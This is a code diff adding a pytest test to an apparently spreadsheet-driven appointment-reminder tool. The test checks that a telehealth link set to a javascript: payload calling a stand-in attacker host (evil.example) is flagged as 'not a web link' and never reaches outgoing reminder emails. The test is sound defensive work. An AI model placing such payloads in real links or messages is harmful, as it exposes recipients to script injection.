@@ -278,3 +278,21 @@ def test_a_package_planted_in_the_working_folder_never_runs_in_the_parsing_proce
     assert done.returncode == 0, done.stderr
     assert not marker.exists()
     assert "no second process" not in done.stderr
+
+
+@pytest.mark.timeout(120)
+def test_a_javascript_video_link_never_becomes_a_link_in_a_reminder(tmp_path):
+    sheets = dict(MINIMAL)
+    sheets["Clients"] = [["Client ID", "Payer", "Email", "Email Consent"], ["C-1", "Aetna", "c1@mail.example", "plain_ok"]]
+    sheets["Appointments"] = [MINIMAL["Appointments"][0] + ["Modality", "Telehealth Link"],
+                              ["A-2", "C-1", "Ann Lee", TODAY + timedelta(days=1), MINIMAL["Appointments"][1][4], 50,
+                               None, "scheduled", "Aetna", "video", "javascript:fetch('//evil.example')"]]
+    config = write_config(tmp_path, make_workbook(tmp_path / "tracker.xlsx", sheets))
+    done = cli("--config", str(config), "run", "reminders", "--now", f"{TODAY.isoformat()}T09:00:00-06:00", "--json")
+    assert done.returncode == 0, done.stderr
+    import json
+
+    result = json.loads(done.stdout)
+    assert any(i["column"] == "Telehealth Link" and "not a web link" in i["why"] for i in result["data_issues"])
+    sent = list((tmp_path / "outbox").glob("*.eml"))
+    assert sent and not any(b"javascript:" in path.read_bytes() for path in sent)
